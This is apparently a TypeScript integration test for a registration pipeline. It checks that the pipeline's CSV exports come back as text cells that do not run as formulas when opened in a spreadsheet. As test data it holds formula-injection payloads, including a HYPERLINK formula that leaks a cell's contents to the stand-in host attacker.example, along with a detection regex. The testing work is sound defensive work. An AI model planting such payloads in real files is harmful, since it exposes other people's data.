// Every CSV the pipeline writes for people to open — the rejects report of an import, a block's worklist, the
// daily report — is safe to open in a spreadsheet: a cell that would run as a formula (a roster's header name,
// a person's name, a block's name, a rejected cell) comes back as text. One export per test, on the embedded
// stack, read through the link the API gives, as the person downloading it would.
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { indianDay } from '../../functions/core/progress.js';
import { useRegistrationStack } from '../support/registration.js';
import { rosterClient, type ImportView } from '../support/rosters.js';

const stack = useRegistrationStack();

const formulaStart = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
const hostileHeader = '=HYPERLINK("http://attacker.example/?leak="&A2,"notes")';
const hostileName = '=HYPERLINK("http://attacker.example","Ram Prasad")';
const hostileBlock = '+SUM(1;2)';
const csvCell = (cell: string) => (/[",\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);

const rows = (text: string): string[][] => parse(text.replace(/^\uFEFF/, ''), { relaxColumnCount: true }) as string[][];

/** No cell would run as a formula; the hostile ones are there, as text. */
const expectSafe = (table: string[][], expected: readonly string[]) => {
  const cells = table.flat();
  expect(cells.filter((cell) => formulaStart.test(cell) && cell !== '-')).toEqual([]);
  for (const cell of expected) expect(cells).toContain(`'${cell}`);
};

const download = async (url: string) => {
  const response = await fetch(url);
  expect(response.status).toBe(200);
  return response.text();
};

let imported: ImportView;
let campaignId: string;

describe('CSV exports', () => {
  beforeAll(async () => {
    const rosters = rosterClient(stack.env);
    const key = 'rosters/pmjay/Lucknow/ration-card-families/formula.csv';
    const file = [
      ['Ration Card No', 'Member ID', 'Name', 'Gender', 'Year of Birth', 'Block', 'Village', 'District', hostileHeader],
      ['UPFX0001', '01', hostileName, 'M', '1970', 'Mal', 'Nigohan', 'Lucknow', 'first'],
      ['UPFX0002', '01', 'Sita Devi', 'F', '1975', hostileBlock, 'Araul', 'Lucknow', '-5'],
      ['UPFX0003', '01', 'Mohan Lal', '@gender', '1980', 'Mal', 'Nigohan', 'Lucknow', '\uFF1D1+1'],
    ]
      .map((line) => line.map(csvCell).join(','))
      .join('\n');
    await rosters.upload(key, `${file}\n`);
    imported = await rosters.finished('Lucknow', key);
    rosters.close();
    expect(imported.counts).toMatchObject({ read: 3, inserted: 2, rejected: 1 });
    const campaign = await stack.driver.call('POST', '/v1/admin/campaigns', {
      role: 'district-admin',
      body: { name: 'Formula drive', scheme: 'pmjay', districts: ['Lucknow'], startDate: '2026-01-01', endDate: '2026-12-31' },
    });
    expect(campaign.status).toBe(201);
    campaignId = String(campaign.body.campaignId);
  });

  it("the rejects report of an import: the file's header names and the rejected row's cells", async () => {
    const table = rows(await download(String(imported.rejectsReport?.url)));
    expectSafe(table, [hostileHeader, '@gender', '\uFF1D1+1']);
    expect(table[0]?.slice(0, 3)).toEqual(['row', 'column', 'reason']);
  });

  it("a block's worklist: a person's name from the roster", async () => {
    const worklist = await stack.driver.call('GET', `/v1/admin/campaigns/${campaignId}/worklist?district=Lucknow&block=Mal`, {
      role: 'district-admin',
    });
    expect(worklist.status, JSON.stringify(worklist.body)).toBe(200);
    expect(worklist.body.people).toBe(1);
    expectSafe(rows(await download(String(worklist.body.url))), [hostileName]);
  });

  it("the daily report: a block's name from the roster", async () => {
    const today = indianDay(Date.now());
    const report = await stack.driver.call('GET', `/v1/admin/campaigns/${campaignId}/reports/daily?date=${today}`, {
      role: 'district-admin',
    });
    expect(report.status, JSON.stringify(report.body)).toBe(200);
    // The API's JSON gives the name as it is; the spreadsheet gets it as text.
    expect((report.body.rows as { block: string }[]).map((row) => row.block)).toContain(hostileBlock);
    expectSafe(rows(await download(String(report.body.csvUrl))), [hostileBlock]);
  });
});
